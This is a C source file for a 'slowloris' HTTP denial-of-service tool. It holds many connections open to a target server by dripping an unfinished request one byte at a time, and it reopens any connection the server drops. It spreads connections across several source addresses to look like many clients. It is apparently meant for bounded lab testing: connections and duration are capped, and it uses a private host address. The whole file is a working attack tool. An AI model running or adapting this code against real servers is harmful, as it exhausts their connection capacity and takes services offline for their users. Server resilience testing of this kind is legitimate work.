/* SPDX-License-Identifier: ISC */
/*
 * slowloris: holds CONNS connections to DST:PORT for SECONDS, each sending
 * a request head that never ends: the request line, then one byte of a
 * header every INTERVAL_MS. A connection the server closes is opened
 * again (at most once per INTERVAL_MS each), as the attack does. Sources
 * cycle through NSRC addresses from SRC (the last octet counting up), to
 * look like many clients; they must be the client side's own addresses.
 * Prints what it did. Bounded: CONNS <= 1000, SECONDS <= 120.
 *
 *   slowloris DST PORT CONNS SECONDS INTERVAL_MS SRC [NSRC]
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CONNS 1000

struct slot {
    int fd;
    int connected;
    size_t sent;            /* of the head */
    double next;            /* when to send or reconnect */
};

static const char head[] = "GET / HTTP/1.1\r\nHost: 10.0.0.2\r\nUser-Agent: slowloris\r\n";
static const char drip[] = "X-a: b\r\n";

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static unsigned long arg(const char *s, unsigned long max, const char *what)
{
    char *end;
    unsigned long v = strtoul(s, &end, 10);

    if (*s == '\0' || *end != '\0' || v < 1 || v > max) {
        fprintf(stderr, "slowloris: %s must be 1 to %lu\n", what, max);
        exit(2);
    }
    return v;
}

static struct sockaddr_in dst, src;
static unsigned nsrc;
static unsigned long opens, closes, failures;

static void open_slot(struct slot *s, unsigned i)
{
    struct sockaddr_in from = src;
    int one = 1;

    from.sin_addr.s_addr = htonl(ntohl(src.sin_addr.s_addr) + i % nsrc);
    s->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    s->connected = 0;
    s->sent = 0;
    if (s->fd < 0)
        return;
    setsockopt(s->fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    if (bind(s->fd, (struct sockaddr *)&from, sizeof(from)) != 0 ||
        (connect(s->fd, (struct sockaddr *)&dst, sizeof(dst)) != 0 &&
         errno != EINPROGRESS)) {
        close(s->fd);
        s->fd = -1;
        failures++;
        return;
    }
    opens++;
}

int main(int argc, char **argv)
{
    static struct slot slots[MAX_CONNS];
    static struct pollfd pfd[MAX_CONNS];

    if (argc != 7 && argc != 8) {
        fprintf(stderr, "usage: slowloris DST PORT CONNS SECONDS INTERVAL_MS SRC [NSRC]\n");
        return 2;
    }
    dst.sin_family = src.sin_family = AF_INET;
    if (inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1 ||
        inet_pton(AF_INET, argv[6], &src.sin_addr) != 1) {
        fprintf(stderr, "slowloris: bad address\n");
        return 2;
    }
    dst.sin_port = htons((uint16_t)arg(argv[2], 65535, "PORT"));
    unsigned conns = (unsigned)arg(argv[3], MAX_CONNS, "CONNS");
    double seconds = (double)arg(argv[4], 120, "SECONDS");
    double interval = (double)arg(argv[5], 60000, "INTERVAL_MS") / 1000;
    nsrc = argc == 8 ? (unsigned)arg(argv[7], 250, "NSRC") : 1;

    /* A server's RST must end a connection, not us. */
    signal(SIGPIPE, SIG_IGN);
    double start = now(), end = start + seconds;
    unsigned long max_held = 0;
    for (unsigned i = 0; i < conns; i++) {
        open_slot(&slots[i], i);
        slots[i].next = start + interval;
    }
    while (now() < end) {
        double t = now();
        unsigned long held = 0;
        for (unsigned i = 0; i < conns; i++) {
            struct slot *s = &slots[i];
            pfd[i].fd = s->fd;
            pfd[i].events = s->fd < 0 ? 0 : s->connected ? POLLIN : POLLOUT;
            pfd[i].revents = 0;
            if (s->connected)
                held++;
        }
        if (held > max_held)
            max_held = held;
        poll(pfd, conns, 20);
        t = now();
        for (unsigned i = 0; i < conns; i++) {
            struct slot *s = &slots[i];
            char buf[512];
            if (s->fd < 0) {
                if (t >= s->next) {
                    open_slot(s, i);
                    s->next = t + interval;
                }
                continue;
            }
            if (!s->connected && (pfd[i].revents & (POLLOUT | POLLERR | POLLHUP))) {
                int err = 0;
                socklen_t len = sizeof(err);
                getsockopt(s->fd, SOL_SOCKET, SO_ERROR, &err, &len);
                if (err != 0) {
                    close(s->fd);
                    s->fd = -1;
                    failures++;
                    continue;
                }
                s->connected = 1;
                /* The request line and a header at once, then the drip. */
                if (write(s->fd, head, sizeof(head) - 1) > 0)
                    s->sent = 1;
                s->next = t + interval;
                continue;
            }
            /* Anything from the server (a 408, a 503, its FIN) ends it. */
            if (s->connected && (pfd[i].revents & (POLLIN | POLLERR | POLLHUP))) {
                /* What it says does not matter, only that it spoke. */
                ssize_t said = read(s->fd, buf, sizeof(buf));
                (void)said;
                close(s->fd);
                s->fd = -1;
                closes++;
                s->next = t + interval;
                continue;
            }
            if (s->connected && t >= s->next) {
                char c = drip[s->sent++ % (sizeof(drip) - 1)];
                if (write(s->fd, &c, 1) < 0 && errno != EAGAIN) {
                    close(s->fd);
                    s->fd = -1;
                    closes++;
                }
                s->next = t + interval;
            }
        }
    }
    unsigned long held = 0;
    for (unsigned i = 0; i < conns; i++) {
        if (slots[i].fd >= 0) {
            held += slots[i].connected;
            close(slots[i].fd);
        }
    }
    printf("slowloris: %u connections for %.0f s: %lu opened, %lu closed by the server, "
           "%lu failed, %lu held at most, %lu at the end\n",
           conns, seconds, opens, closes, failures, max_held, held);
    return 0;
}
